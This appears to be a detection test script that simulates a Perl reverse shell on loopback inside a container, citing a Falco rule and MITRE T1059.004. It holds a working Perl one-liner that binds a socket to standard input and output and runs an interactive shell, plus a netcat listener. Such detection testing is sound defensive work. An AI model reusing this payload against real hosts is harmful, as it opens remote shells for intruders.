#!/bin/sh
# case: T1059.004-perl-exec-shell-over-socket
# technique: Unix Shell: perl dup2s a socket on 0,1,2 and runs sh -i
# source: pentestmonkey reverse shell cheat sheet; falcosecurity/rules Redirect STDOUT/STDIN to Network Connection in Container
# needs: perl nc
# expect: exec net
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need perl nc
P=$((20000 + $$ % 20000)); ( sleep 2; echo id; echo exit ) | nc -l 127.0.0.1 "$P" >/dev/null 2>&1 & L=$!
sleep 1; perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($ARGV[0],inet_aton("127.0.0.1")))or exit 1;open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i")' "$P" 2>/dev/null & C=$!
sleep 3; kill "$C" "$L" 2>/dev/null; wait 2>/dev/null; true
exit 0
